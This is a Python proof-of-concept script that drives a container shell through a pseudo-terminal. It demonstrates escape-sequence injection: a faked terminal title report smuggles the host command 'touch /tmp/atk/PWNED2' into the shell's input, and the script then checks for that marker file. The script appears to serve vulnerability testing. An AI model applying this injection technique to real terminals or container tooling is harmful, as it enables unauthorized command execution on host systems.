import os, pty, sys, time, select
pid, fd = pty.fork()
if pid == 0:
    os.execv('/tmp/atk/bin/ctrsh', ['ctrsh'])
out = b''
def pump(t):
    global out
    end = time.time() + t
    while time.time() < end:
        r, _, _ = select.select([fd], [], [], 0.1)
        if r:
            try: d = os.read(fd, 65536)
            except OSError: return
            out += d
            if b'\x1b[21t' in d:   # a terminal that reports its title (xterm allowWindowOps)
                os.write(fd, b"\x1b]lx;host touch /tmp/atk/PWNED2\x1b\\")
def send(s): os.write(fd, s.encode())
pump(2)
send('ns new pid,uts,ipc,net,mnt; rootfs use /tmp/atk/root\r'); pump(1)
send('start; exec -d /bin/evilname2\r'); pump(2); send('ps\r'); pump(2)
send('\r'); pump(2)   # the user presses Enter at the prompt
send('quit\r'); pump(2)
sys.stdout.write(repr(out.decode(errors='replace')).replace('\\r\\n', '\n'))
print('\nPWNED exists:', os.path.exists('/tmp/atk/PWNED2'))
